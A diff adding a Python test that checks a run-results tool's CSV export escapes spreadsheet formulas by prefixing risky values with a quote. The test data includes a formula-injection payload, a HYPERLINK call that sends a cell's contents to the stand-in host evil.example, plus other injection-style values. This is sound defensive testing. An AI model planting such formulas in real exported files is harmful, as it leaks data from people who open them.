@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import subprocess
@@ -160,6 +161,29 @@ def test_control_sequences_do_not_reach_a_terminal(
     assert "\x1b]" not in shown.getvalue()
     if form == "json":
         assert json.loads(shown.getvalue())[0]["target_modules"] == hostile
+
+
+def test_text_of_a_run_is_no_formula_in_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    formula = '=HYPERLINK("http://evil.example?"&A1)'
+    more = {"layers": "+1", "tag": ["@SUM(1)", "v"], "note": "\t=1", formula: "-1", "shift": -0.5, "mixed": -2}
+    events = [
+        START | {"trial": 0, "parameters": PARAMETERS | {"target_modules": formula} | more},
+        report(0, 10, -1.25, host="-host"),
+        {"event": "end", "trial": 0, "time": 1011.0, "state": "failed", "reason": "\r=1\r=2"},
+        START | {"trial": 1, "parameters": PARAMETERS | {"mixed": "a=b"}},
+    ]
+    run = write_run(tmp_path / "run", events)
+    assert main(["results", str(run), "--format", "csv", "--out", str(tmp_path / "out.csv")]) == 0
+    with (tmp_path / "out.csv").open(newline="") as file:
+        first, second = csv.DictReader(file)
+    assert first["target_modules"] == f"'{formula}"
+    assert first[f"'{formula}"] == "'-1"
+    assert (first["layers"], first["tag"], first["note"]) == ("'+1", "'@SUM(1), v", "'\t=1")
+    assert (first["host"], first["reason"]) == ("'-host", "'\r=1\r=2")
+    assert (first["eval_loss"], first["shift"], first["mixed"]) == ("-1.25", "-0.5", "-2")
+    assert (second["mixed"], second["target_modules"], second["host"]) == ("a=b", "attention", "")
+    assert main(["results", str(run), "--format", "json"]) == 0
+    assert json.loads(capsys.readouterr().out)[0]["target_modules"] == formula
 
 
 def test_table_of_a_metric_to_be_maximal_ends_with_what_has_none(
